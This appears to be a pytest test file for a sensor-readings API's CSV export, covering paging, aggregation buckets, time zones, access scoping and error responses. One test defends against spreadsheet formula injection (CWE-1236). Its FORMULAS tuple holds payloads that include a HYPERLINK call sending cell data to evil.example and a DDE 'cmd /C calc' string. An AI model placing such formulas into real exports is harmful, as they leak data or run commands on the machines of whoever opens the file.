"""`Accept: text/csv` on `/v1/readings`: every row of the filter as one RFC 4180 stream, paged
through storage inside, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest

from collector.api.csv_rows import BUCKET_COLUMNS, READING_COLUMNS, text_cell
from collector.api.routes.readings import CSV_PAGE
from collector.storage import open_storage
from specs.records import Quality, Reading, iso_time
from tests.support.collector_api import (
    BEIJING,
    FLOAT32,
    NANCHANG,
    assert_problem,
    auth,
    get_page,
    level,
    pressure,
    serve,
    store_blocks,
)
from tests.support.collector_client import BASE_TIME
from tests.support.collector_env import register

CSV_HEADERS = {**auth(), "Accept": "text/csv"}
PER_POINT = 3100  # two points: more rows than one CSV page, so the stream pages inside
BLOCK = 500


def _nanchang_readings() -> list[Reading]:
    found: list[Reading] = []
    for i in range(PER_POINT):
        t = BASE_TIME + i * 1.5
        found.append(level(t, FLOAT32 if i == 7 else i / 4))
        quality = Quality.BAD if i % 97 == 0 else Quality.GOOD
        found.append(
            Reading(
                "T001-PT-01",
                "WHP-PT",
                iso_time(t),
                None if quality is Quality.BAD else i / 1000,
                "MPa",
                quality,
                ("clock_suspect", "backfill") if quality is Quality.BAD else (),
            )
        )
    return found


@pytest.fixture
async def client(storage_url: str) -> AsyncIterator[httpx.AsyncClient]:
    async with open_storage(storage_url) as storage:
        await register(storage, NANCHANG, BEIJING)
        readings = _nanchang_readings()
        await store_blocks(
            storage, NANCHANG, [readings[i : i + BLOCK] for i in range(0, len(readings), BLOCK)]
        )
        await store_blocks(storage, BEIJING, [[level(BASE_TIME, 1.0), pressure(BASE_TIME, 0.5)]])
        async with serve(storage) as http:
            yield http


async def _csv(
    client: httpx.AsyncClient, bearer: str = "all-token", **params: Any
) -> list[dict[str, str]]:
    headers = {**auth(bearer), "Accept": "text/csv"}
    response = await client.get("/v1/readings", params=params, headers=headers)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8")
    assert text.endswith("\r\n")
    assert "\n" not in text.replace("\r\n", "")  # RFC 4180: CRLF ends every record
    rows = list(csv.reader(io.StringIO(text, newline="")))
    columns = BUCKET_COLUMNS if "every" in params else READING_COLUMNS
    assert rows[0] == list(columns)
    return [dict(zip(columns, row, strict=True)) for row in rows[1:]]


def _cells(item: dict[str, Any]) -> dict[str, str]:
    """A JSON item as its CSV cells."""
    cells: dict[str, str] = {}
    for key, value in item.items():
        if value is None:
            cells[key] = ""
        elif isinstance(value, list):
            cells[key] = ";".join(value)
        else:
            cells[key] = str(value)
    return cells


async def _json_items(client: httpx.AsyncClient, **params: Any) -> list[dict[str, Any]]:
    body = await get_page(client, "/v1/readings", limit=10_000, **params)
    assert body["next"] is None
    items: list[dict[str, Any]] = body["items"]
    return items


async def test_csv_streams_every_reading_past_one_storage_page(
    client: httpx.AsyncClient,
) -> None:
    rows = await _csv(client, gateway=NANCHANG.gateway, limit=5)  # limit does not cut CSV
    assert len(rows) == 2 * PER_POINT > CSV_PAGE
    assert rows == [_cells(item) for item in await _json_items(client, gateway=NANCHANG.gateway)]
    by_point = [r for r in rows if r["point"] == "T001-LT-01"]
    assert by_point[7]["value"] == "2.4833622"
    bad = next(r for r in rows if r["quality"] == "bad")
    assert (bad["value"], bad["flags"]) == ("", "clock_suspect;backfill")


async def test_csv_buckets_equal_the_json_buckets(client: httpx.AsyncClient) -> None:
    for every in ("1m", "1h"):
        rows = await _csv(client, every=every, tz="+08:00")
        assert rows == [
            _cells(item) for item in await _json_items(client, every=every, tz="+08:00")
        ]
        assert rows
        assert all(r["t"].endswith("+08:00") for r in rows)


async def test_an_average_past_the_largest_double_is_empty_in_csv_as_null_in_json(
    storage_url: str,
) -> None:
    """Found by a hostile tester: two readings of 1.7e308 in one minute sum past the largest
    double; JSON showed the average as null and CSV as 'inf', a cell no reader takes."""
    async with open_storage(storage_url) as storage:
        await register(storage, BEIJING)
        huge = [level(BASE_TIME + 1, 1.7e308), level(BASE_TIME + 2, 1.7e308)]
        await store_blocks(storage, BEIJING, [huge])
        async with serve(storage) as http:
            rows = await _csv(http, every="1m")
            [item] = await _json_items(http, every="1m")
            assert item["avg"] is None
            assert rows == [_cells(item)]
            assert rows[0]["max"] == "1.7e+308"


async def test_csv_times_follow_tz(client: httpx.AsyncClient) -> None:
    rows = await _csv(client, gateway=BEIJING.gateway, tz="-05:30")
    assert [r["t"] for r in rows] == ["2026-05-28T14:56:40.000-05:30"] * 2


async def test_a_cursor_starts_the_csv_after_its_page(client: httpx.AsyncClient) -> None:
    page = await get_page(client, "/v1/readings", gateway=NANCHANG.gateway, limit=100)
    rows = await _csv(client, gateway=NANCHANG.gateway, cursor=page["next"])
    assert len(rows) == 2 * PER_POINT - 100
    assert rows[0] == _cells(
        (await get_page(client, "/v1/readings", gateway=NANCHANG.gateway, limit=101))["items"][100]
    )


async def test_csv_keeps_the_district_scope(client: httpx.AsyncClient) -> None:
    mine = await _csv(client, "nc-token", every="1h")
    assert {r["gateway"] for r in mine} == {NANCHANG.gateway}
    assert await _csv(client, "nc-token", gateway=BEIJING.gateway) == []
    assert await _csv(client, "sz-token") == []


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"every": "1w"}, 400),
        ({"tz": "+25:00"}, 400),
        ({"from": "yesterday"}, 400),
        ({"cursor": "garbage"}, 400),
        ({"every": "1m", "cursor": "garbage"}, 400),
        ({"limit": 0}, 422),
    ],
)
async def test_bad_csv_requests_are_problems_not_csv(
    client: httpx.AsyncClient, params: dict[str, Any], status: int
) -> None:
    response = await client.get("/v1/readings", params=params, headers=CSV_HEADERS)
    assert_problem(response, status)


async def test_csv_needs_a_token(client: httpx.AsyncClient) -> None:
    response = await client.get("/v1/readings", headers={"Accept": "text/csv"})
    assert_problem(response, 401)


async def test_json_stays_the_default(client: httpx.AsyncClient) -> None:
    for accept in ("*/*", "application/json", "application/json, text/csv"):
        response = await client.get(
            "/v1/readings", params={"limit": 1}, headers={**auth(), "Accept": accept}
        )
        assert response.headers["content-type"] == "application/json"


async def test_openapi_documents_the_csv_stream(client: httpx.AsyncClient) -> None:
    spec = (await client.get("/openapi.json", headers=auth())).json()
    operation = spec["paths"]["/v1/readings"]["get"]
    assert "text/csv" in operation["responses"]["200"]["content"]
    assert "no `next`" in operation["description"]
    assert {"every", "tz"} <= {p["name"] for p in operation["parameters"]}


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"details")', "@SUM(1+1)", "+cmd|' /C calc'!A0")


async def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_text(storage_url: str) -> None:
    """Flags are any text the gateway signed; CSV goes to regulators' spreadsheets.

    Found by the security hostile test: a flag starting with = + - @ made its cell a formula
    (CWE-1236) once the export was opened in a spreadsheet. Such a cell is prefixed with ',
    which spreadsheets show as text; JSON keeps the flag as sent, and a unit "-" stays "-".
    """
    readings = [
        Reading(
            "T001-LT-01",
            "WHP-LT",
            iso_time(BASE_TIME + n),
            1.0,
            "m",
            Quality.GOOD,
            (formula, "backfill"),
        )
        for n, formula in enumerate(FORMULAS)
    ]
    async with open_storage(storage_url) as storage:
        await register(storage, NANCHANG)
        await store_blocks(storage, NANCHANG, [readings])
        async with serve(storage) as http:
            rows = await _csv(http, gateway=NANCHANG.gateway)
            items = await _json_items(http, gateway=NANCHANG.gateway)
    assert [row["flags"] for row in rows] == [f"'{formula};backfill" for formula in FORMULAS]
    assert [item["flags"] for item in items] == [[formula, "backfill"] for formula in FORMULAS]
    assert [text_cell(text) for text in ("-", "-5", "\tx", "m", "")] == [
        "-",
        "'-5",
        "'\tx",
        "m",
        "",
    ]
